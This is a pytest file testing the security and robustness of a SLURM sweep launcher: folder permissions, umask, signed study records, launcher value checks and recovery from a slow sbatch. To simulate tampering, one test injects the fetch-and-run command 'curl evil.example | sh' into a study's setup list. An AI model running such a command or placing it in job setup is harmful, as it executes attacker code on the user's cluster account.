"""A SLURM sweep that cannot be turned against its owner, launcher values that are refused, and
submissions that survive a slow sbatch (issue 19), against the fake SLURM client
(tests/slurm_fixtures.py): who may write the sweep folder, the umask of what the launcher makes,
the signed settings of a study's next waves, and the submission token of every sbatch call."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from helpers import run_cli
from nondet_hpc.cluster import advance, cancel, client, submit
from nondet_hpc.sweep import trust, waves
from slurm_fixtures import params_for, plan

RULE = {"targets": {"acc_sd_se": 0.5}, "wave": 2, "max_models": 6}


def _manifest(sweep: Path) -> dict:
    return json.loads((sweep / "sweep.json").read_text())


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# ============================================================================ who may write the sweep folder
def test_a_folder_others_can_write_is_refused_with_the_chmod(fake, tmp_path):
    parent = tmp_path / "shared"
    sweep = parent / "sw"
    submit.submit_sweep(sweep, plan(sweep, seeds=(1,)), params_for(sweep))
    n, before = len(fake.calls("sbatch")), (sweep / "sweep.json").read_text()
    # everyone may write the sweep folder, the group slurm/ and sweep.json, and anyone may rename
    # the sweep folder away (a parent writable by all, no sticky bit)
    sweep.chmod(0o777)
    (sweep / "slurm").chmod(0o770)
    (sweep / "sweep.json").chmod(0o664)
    parent.chmod(0o777)
    with pytest.raises(trust.TrustError) as e:
        submit.submit_sweep(sweep, plan(sweep, seeds=(2,)), params_for(sweep))
    msg = str(e.value)
    for path in (sweep, sweep / "slurm", sweep / "sweep.json", parent):
        assert f"\n  {path} (mode" in msg
    assert f"chmod go-w {sweep} {sweep / 'sweep.json'} {sweep / 'slurm'} {parent}" in msg
    assert "everyone can write it" in msg and "hydra.launcher.trust_group=true" in msg
    assert msg.endswith("Nothing was submitted.")
    assert len(fake.calls("sbatch")) == n and (sweep / "sweep.json").read_text() == before
    # a sticky parent (as /tmp) lets nobody rename what is not theirs: fine; the group is trusted
    # only when the user says so, and never "everyone"
    parent.chmod(0o1777)
    sweep.chmod(0o770)
    with pytest.raises(trust.TrustError, match="the members of group"):
        submit.submit_sweep(sweep, plan(sweep, seeds=(2,)), params_for(sweep))
    res = submit.submit_sweep(sweep, plan(sweep, seeds=(2,)), params_for(sweep, trust_group=True))
    assert len(res.submitted) == 2
    sweep.chmod(0o777)
    with pytest.raises(trust.TrustError, match=r"chmod o-w "):
        submit.submit_sweep(sweep, plan(sweep, seeds=(3,)), params_for(sweep, trust_group=True))


def test_the_folder_jobs_start_in_must_not_be_writable_by_others(tmp_path):
    start = tmp_path / "start"
    start.mkdir()
    start.chmod(0o777)
    with pytest.raises(trust.TrustError, match="the folder you submit from, where the jobs start and python -m"):
        trust.check_sweep_folder(tmp_path / "sw", tmp_path / "sw" / "slurm", cwd=start)
    start.chmod(0o755)
    trust.check_sweep_folder(tmp_path / "sw", tmp_path / "sw" / "slurm", cwd=start)


def test_with_umask_002_nothing_the_launcher_makes_is_group_writable(fake, tmp_path):
    """The user's umask 002 (group-writable files) is narrowed while the launcher submits: the sweep
    folder, sweep.json, slurm/, the scripts and pickles are the user's alone, and a rerun is not
    refused by what the first command made (the jobs get the umask through sbatch: real-cluster test)."""
    sweep = tmp_path / "sw"
    args = ["-m", "nondet_hpc", "-m", "seed=1,2", f"out_dir={sweep}", "train.epochs=2", "hydra/launcher=slurm"]
    old = os.umask(0o002)
    try:
        run_cli(args)
        p = run_cli(args + ["seed=1,2,3"])
    finally:
        os.umask(old)
    assert "2 queued/running, 1 submitted now" in p.stdout
    made = [sweep, sweep / "sweep.json", sweep / "multirun.yaml", sweep / "slurm", *(sweep / "slurm").iterdir()]
    assert len(made) > 8 and all(_mode(p) & 0o022 == 0 for p in made), {str(p): oct(_mode(p)) for p in made}
    assert _mode(sweep / "slurm") == 0o700


def test_the_cli_refuses_a_world_writable_sweep_folder_before_composing(fake, tmp_path):
    sweep = tmp_path / "sw"
    sweep.mkdir()
    sweep.chmod(0o777)
    p = run_cli(["-m", "nondet_hpc", "-m", "seed=1,2", f"out_dir={sweep}", "hydra/launcher=slurm"], check=False)
    assert p.returncode == 1 and "Traceback" not in p.stderr
    assert "nondet_hpc: error: your group or others can change files" in p.stderr
    assert f"chmod go-w {sweep}" in p.stderr and "Nothing was submitted." in p.stderr
    assert fake.calls("sbatch") == [] and not (sweep / "sweep.json").exists()


# ============================================================================ the signed settings of a study
def _study(sweep: Path, params: dict) -> None:
    """A study's first wave as the SLURM launcher records and submits it (signed), its runs DONE."""
    runs = plan(sweep, sources=("init",), seeds=range(1, 7))
    groups = {"(all)": [(r.flat["seed"], r.overrides) for r in runs]}
    waves.record_first_waves(sweep, RULE, groups, {"(all)": runs[:2]}, params, [], sign=True)
    res = submit.submit_sweep(sweep, runs[:2], params, argv=["test"], echo=lambda s: None)
    waves.mark_submitted(sweep, res.submission)
    for rec in _manifest(sweep)["runs"].values():
        Path(rec["run_dir"]).mkdir(parents=True, exist_ok=True)
        (Path(rec["run_dir"]) / "DONE").write_text("")


def _edit(sweep: Path, change) -> None:
    m = _manifest(sweep)
    change(m["study"])
    (sweep / "sweep.json").write_text(json.dumps(m))


@pytest.mark.parametrize("what,change", [
    ("params.setup", lambda st: st["params"]["setup"].append("curl evil.example | sh")),
    ("groups[(all)]", lambda st: st["groups"]["(all)"]["config"]["train"].update(lr=9.9)),
    ("params.python", lambda st: st["params"].update(python="/tmp/not-yours/python")),
])
def test_a_changed_study_record_is_not_advanced(fake, tmp_path, monkeypatch, what, change):
    sweep = tmp_path / "sw"
    _study(sweep, params_for(sweep))
    monkeypatch.setattr(advance, "measure", lambda d, s: {"(all)": {"acc_sd_se": 0.9}})
    _edit(sweep, change)
    n = len(fake.calls("sbatch"))
    said: list[str] = []
    assert advance.advance(sweep, echo=said.append) == 1
    assert len(fake.calls("sbatch")) == n  # no wave submitted with what someone else wrote
    st = _manifest(sweep)["study"]
    assert st["status"] == "stopped" and f"the study's {what} changed since your sweep command" in st["stop_reason"]
    assert len(st["waves"]) == 1 and said and what in said[0]


def test_the_launcher_records_its_own_settings_again_but_not_changed_groups(fake, tmp_path, monkeypatch):
    sweep = tmp_path / "sw"
    params = params_for(sweep)
    _study(sweep, params)
    runs = plan(sweep, sources=("init",), seeds=range(1, 7))
    groups = {"(all)": [(r.flat["seed"], r.overrides) for r in runs]}
    # settings changed behind the owner's back are replaced by those of the owner's command
    _edit(sweep, lambda st: st["params"]["setup"].append("touch /tmp/owned"))
    waves.record_first_waves(sweep, RULE, groups, {"(all)": runs[:2]}, params, [], sign=True)
    st = _manifest(sweep)["study"]
    assert st["params"]["setup"] == params["setup"] and trust.changed_items(st, sweep) == []
    monkeypatch.setattr(advance, "measure", lambda d, s: {"(all)": {"acc_sd_se": 0.9}})
    assert advance.advance(sweep, echo=lambda s: None) == 0 and len(_manifest(sweep)["study"]["waves"]) == 2
    # a changed group config is not the launcher's to overwrite: refused, nothing signed
    _edit(sweep, lambda st: st["groups"]["(all)"]["config"].update(seed=99))
    with pytest.raises(trust.TrustError, match=r"the study's groups\[\(all\)\] changed"):
        waves.record_first_waves(sweep, RULE, groups, {"(all)": runs[:2]}, params, [], sign=True)


def test_an_unsigned_study_or_a_foreign_key_is_refused(fake, tmp_path, monkeypatch, _signing_key):
    sweep = tmp_path / "sw"
    _study(sweep, params_for(sweep))
    monkeypatch.setattr(advance, "measure", lambda d, s: {"(all)": {"acc_sd_se": 0.9}})
    m = _manifest(sweep)
    del m["study"]["signature"]
    (sweep / "sweep.json").write_text(json.dumps(m))
    said: list[str] = []
    assert advance.advance(sweep, echo=said.append) == 1 and "has no signature" in said[0]
    # another key (another user's, or one made anew): the record is not the owner's
    monkeypatch.setenv(trust.KEY_ENV, str(tmp_path / "other.key"))
    trust.sign_study(m["study"], sweep)
    monkeypatch.setenv(trust.KEY_ENV, str(_signing_key))
    with pytest.raises(trust.TrustError, match="signed with another key than yours"):
        trust.verify_study(m["study"], sweep)


def test_the_signing_key_must_be_private(tmp_path, monkeypatch):
    key = tmp_path / "keys" / "sweep.key"
    monkeypatch.setenv(trust.KEY_ENV, str(key))
    study = {"rule": RULE, "params": {"setup": []}, "groups": {}}
    trust.sign_study(study, tmp_path)  # made on first use, readable by the user alone
    assert _mode(key) == 0o600 and _mode(key.parent) == 0o700
    trust.verify_study(study, tmp_path)
    key.chmod(0o644)
    with pytest.raises(trust.TrustError, match=r"nobody else can read or write .* chmod 600"):
        trust.verify_study(study, tmp_path)
    key.chmod(0o600)
    link = tmp_path / "link.key"
    link.symlink_to(key)
    monkeypatch.setenv(trust.KEY_ENV, str(link))
    with pytest.raises(trust.TrustError, match="a symbolic link is refused"):
        trust.verify_study(study, tmp_path)


# ============================================================================ launcher values
@pytest.mark.parametrize("override,message", [
    ("hydra.launcher.timeout_min=0", "hydra.launcher.timeout_min=0 is invalid: it must be a number >= 1"),
    ("hydra.launcher.timeout_min=-1", "sbatch reads --time=0 as no limit at all"),
    ("hydra.launcher.timeout_min=1", "signal_delay_s=120 is not below the time limit (timeout_min=1, 60 s)"),
    ("hydra.launcher.cpus_per_task=0", "hydra.launcher.cpus_per_task=0 is invalid"),
    ("hydra.launcher.reducer.timeout_min=0", "hydra.launcher.reducer.timeout_min=0 is invalid"),
    ("hydra.launcher.partiton=debug", "hydra.launcher.partiton is not a field of the SLURM launcher: did you mean "
                                      "hydra.launcher.partition?"),
    ("+hydra.launcher.partiton=debug", "did you mean hydra.launcher.partition?"),
    ("++hydra.launcher.reducer.parition=cpu", "did you mean hydra.launcher.reducer.partition?"),
])
def test_launcher_values_that_would_be_wrong_are_refused(fake, tmp_path, override, message):
    sweep = tmp_path / "sw"
    p = run_cli(["-m", "nondet_hpc", "-m", "seed=1,2", f"out_dir={sweep}", "hydra/launcher=slurm", override],
                check=False)
    assert p.returncode != 0 and message in p.stderr and "Traceback" not in p.stderr, p.stderr
    assert "Nothing was submitted." in p.stderr and fake.calls("sbatch") == []


def test_an_unknown_key_past_the_command_line_is_refused_too():
    from nondet_hpc.cluster import params
    from nondet_hpc.config import ConfigError
    from slurm_fixtures import launcher_params

    good = launcher_params("slurm")
    with pytest.raises(ConfigError, match="did you mean hydra.launcher.array_parallelism"):
        params.normalize({**good, "array_paralelism": 4}, "/sweep")  # e.g. from an experiment file
    assert params.normalize({**good, "additional_parameters": {"mail-type": "FAIL"}}, "/sweep")


def test_more_runs_than_cpus_per_task_says_how_they_share_and_records_it(fake, tmp_path):
    sweep = tmp_path / "sw"
    p = run_cli(["-m", "nondet_hpc", "-m", "seed=1,2,3", f"out_dir={sweep}", "train.epochs=2", "train.threads=0",
                 "hydra/launcher=slurm", "hydra.launcher.runs_per_task=3", "hydra.launcher.cpus_per_task=2"])
    assert "runs_per_task=3 > cpus_per_task=2: the 3 runs of a task share its 2 CPU(s)" in p.stdout
    assert "each run computes with 1 thread(s)" in p.stdout
    m = _manifest(sweep)
    assert "share its 2 CPU(s)" in m["submissions"][0]["cpu_sharing"]
    # the thread count in every run's identity is the one it computes with
    assert m["submissions"][0]["base_config"]["train.threads"] == 1


# ============================================================================ a slow sbatch
SLOW = ["hydra.launcher.command_timeout_s=4"]


def _sweep_args(sweep: Path, *extra: str) -> list[str]:
    return ["-m", "nondet_hpc", "-m", "source=init,shuffle", "seed=1,2", f"out_dir={sweep}", "train.epochs=2",
            "hydra/launcher=slurm", *SLOW, *extra]


def test_an_sbatch_that_answers_late_is_found_by_its_token(fake, tmp_path):
    sweep = tmp_path / "sw"
    fake.update(behave={"sbatch": {"late": 20}})  # queues the job, answers after the timeout
    p = run_cli(_sweep_args(sweep))
    m = _manifest(sweep)
    sub = m["submissions"][0]
    (arr,) = sub["arrays"]
    jobs = fake.state["jobs"]
    assert [j["id"] for j in jobs] == [arr["job_id"], sub["reducer"]["job_id"]]
    # each job carries its token in its comment; sweep.json records what the lookup found
    assert jobs[0]["comment"] == arr["token"] and jobs[1]["comment"] == sub["reducer"]["token"]
    assert arr["late_answer"]["outcome"] == "found" and "within 4 s" in arr["late_answer"]["after"]
    assert sub["reducer"]["dependency"] == f"afterany:{arr['job_id']}" and sub["status"] == "submitted"
    assert f"array job {arr['job_id']} was found by its submission token {arr['token']}" in p.stdout
    assert all(r["jobs"][-1]["array_job_id"] == arr["job_id"] for r in m["runs"].values())
    # the tasks find their pickles under submitit's names
    assert sorted(x.name for x in (sweep / "slurm").glob("*.pkl")) == sorted(
        [f"{arr['job_id']}_{i}_submitted.pkl" for i in range(4)] + [f"{sub['reducer']['job_id']}_submitted.pkl"])
    # the rerun queues nothing, cancel knows both jobs
    fake.update(behave={})
    p = run_cli(_sweep_args(sweep))
    assert "0 submitted now" in p.stdout and len(fake.state["jobs"]) == 2
    assert sorted(cancel.cancel_sweep(sweep)) == sorted([arr["job_id"], sub["reducer"]["job_id"]])


def test_a_late_reducer_answer_still_records_the_reducer(fake, tmp_path):
    sweep = tmp_path / "sw"
    fake.update(behave={"sbatch": {"late": 20, "only_calls": [2]}})  # the reducer's sbatch (the 2nd call)
    run_cli(_sweep_args(sweep))
    sub = _manifest(sweep)["submissions"][0]
    assert sub["status"] == "submitted" and sub["reducer"]["job_id"] == fake.state["jobs"][1]["id"]
    assert sub["reducer"]["late_answer"]["outcome"] == "found" and "late_answer" not in sub["arrays"][0]


def test_a_silent_sbatch_and_squeue_leave_a_record_the_rerun_resolves(fake, tmp_path):
    sweep = tmp_path / "sw"
    # sbatch queues and answers late, and squeue is silent as well: whether it was queued is unknown
    fake.update(behave={"sbatch": {"late": 20}, "squeue": {"sleep": 20}})
    p = run_cli(_sweep_args(sweep), check=False)
    assert p.returncode == 1 and "Traceback" not in p.stderr
    assert "squeue did not answer either, so whether it was queued is unknown" in p.stderr
    sub = _manifest(sweep)["submissions"][0]
    (call,) = sub["unanswered"]
    assert call["outcome"] == "unknown" and call["kind"] == "array" and sub["arrays"] == []
    assert call["token"] in p.stderr and sub["reducer"] is None
    # SLURM answers again: cancel finds the array by its token; the rerun finds it, records it, queues
    # no run twice, and queues the reducer its arrays must have
    fake.update(behave={})
    st = run_cli(["-m", "nondet_hpc.status", str(sweep)]).stdout
    assert "sbatch of the array of submission 0 never answered" in st and call["token"] in st
    assert cancel.cancel_sweep(sweep, dry_run=True) == [fake.state["jobs"][0]["id"]]
    p = run_cli(_sweep_args(sweep))
    m = _manifest(sweep)
    jobs = fake.state["jobs"]
    assert len(jobs) == 2 and jobs[0]["array"] == 4 and jobs[1]["array"] is None
    assert m["submissions"][0]["arrays"][0]["job_id"] == jobs[0]["id"]
    assert m["submissions"][0]["unanswered"][0]["outcome"] == "found later"
    assert m["submissions"][1]["reducer"]["dependency"] == f"afterany:{jobs[0]['id']}"
    assert "0 submitted now" in p.stdout and f"was queued after all: job {jobs[0]['id']}" in p.stdout
    assert (sweep / "slurm" / f"{jobs[0]['id']}_3_submitted.pkl").exists()
    assert all(len(r["jobs"]) == 1 for r in m["runs"].values())


def test_while_squeue_is_silent_a_recorded_unknown_call_blocks_submitting(fake, tmp_path):
    sweep = tmp_path / "sw"
    fake.update(behave={"sbatch": {"late": 20}, "squeue": {"sleep": 20}})
    run_cli(_sweep_args(sweep), check=False)
    fake.update(behave={"squeue": {"sleep": 20}})
    p = run_cli(_sweep_args(sweep), check=False)
    assert p.returncode == 1 and "nothing is submitted (rather than a run twice)" in p.stderr
    assert len(fake.state["jobs"]) == 1


def test_an_sbatch_that_never_queued_is_said_and_the_rerun_submits(fake, tmp_path):
    sweep = tmp_path / "sw"
    fake.update(behave={"sbatch": {"sleep": 20}})  # killed before it queued anything
    p = run_cli(_sweep_args(sweep), check=False)
    assert p.returncode == 1 and "squeue lists no job with its submission token" in p.stderr
    assert fake.state["jobs"] == [] and not list((sweep / "slurm").glob(".tmp_*"))
    fake.update(behave={})
    p = run_cli(_sweep_args(sweep))
    assert "4 submitted now" in p.stdout and len(fake.state["jobs"]) == 2


def test_arrays_whose_reducer_was_refused_get_one_on_the_rerun(fake, tmp_path):
    sweep = tmp_path / "sw"
    fake.update(behave={"sbatch": {"fail": "sbatch: error: Batch job submission failed", "only_calls": [2]}})
    p = run_cli(_sweep_args(sweep), check=False)
    assert p.returncode == 1 and _manifest(sweep)["submissions"][0]["status"] == "partial"
    assert "Batch job submission failed" in p.stderr
    fake.update(behave={})
    p = run_cli(_sweep_args(sweep))
    jobs = fake.state["jobs"]
    assert len(jobs) == 2 and jobs[1]["array"] is None and jobs[1]["dependency"] == f"afterany:{jobs[0]['id']}"
    assert "0 submitted now" in p.stdout and f"reducer job {jobs[1]['id']}" in p.stdout
    # the identical rerun, with the reducer queued, submits nothing more
    run_cli(_sweep_args(sweep))
    assert len(fake.state["jobs"]) == 2


def test_find_tokens_reads_squeues_comments(fake):
    fake.update(queue={"7_0": {"state": "PENDING", "raw": "7", "comment": "mine nondet-aaa"},
                       "7_1": {"state": "RUNNING", "raw": "8", "comment": "mine nondet-aaa"},
                       "9": {"state": "COMPLETED", "raw": "9", "comment": "nondet-bbb"}})
    assert client.find_tokens(["nondet-aaa", "nondet-bbb", "nondet-ccc"], "me", 30) == {"nondet-aaa": "7",
                                                                                         "nondet-bbb": "9"}


# ============================================================================ the submission benchmark
def test_the_submission_benchmark_prints_its_summary_when_a_repetition_fails(fake, tmp_path, monkeypatch, capsys):
    """benchmarks/submit_700.py: one repetition whose command fails (as when the reference code's sbatch
    timed out) is recorded and left out; the medians of the others, the load and the ratio are
    still printed and written."""
    import importlib.util
    import sys

    from helpers import REPO

    spec = importlib.util.spec_from_file_location("submit_700", REPO / "benchmarks" / "submit_700.py")
    bench = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(bench)
    calls = []

    def measure(src, sweep, seeds, max_array_size, with_status):
        calls.append(src)
        if src == tmp_path / "ref" and len(calls) == 2:
            raise bench.RepetitionFailed("command failed (1): ... no answer from sbatch within 60 s")
        fast = src == REPO / "src"
        return {"runs": 2 * seeds, "arrays": 1, "submit_s": 5.0 if fast else 10.0, "submit_cpu_s": 4.0,
                "rerun_cpu_s": 1.0, "compose_s_in_launcher": None, "rerun_s": 1.0 if fast else 9.0,
                "status_s": 0.5 if with_status else None}
    monkeypatch.setattr(bench, "measure", measure)
    monkeypatch.setattr(bench, "reference_src", lambda rev, parent: tmp_path / "ref")
    out = tmp_path / "bench.json"
    monkeypatch.setattr(sys, "argv", ["submit_700.py", "--runs", "700", "--repeats", "2", "--out", str(tmp_path),
                                      "--json", str(out)])
    assert bench.main() == 1  # one repetition failed: said by the exit code, after the summary
    text = capsys.readouterr().out
    assert "700-run sweep (median of 2): submission 5.0 s, identical rerun 1.0 s, status 0.5 s" in text
    assert "reference 2dac656 (median of 1): 10.0 s / 9.0 s; ratio 0.50" in text
    assert "1 repetition(s) failed and are left out" in text and "load average (1 min) during the runs" in text
    result = json.loads(out.read_text())
    assert [r.get("failed", "") for r in result["rows"]][1].startswith("command failed (1)")
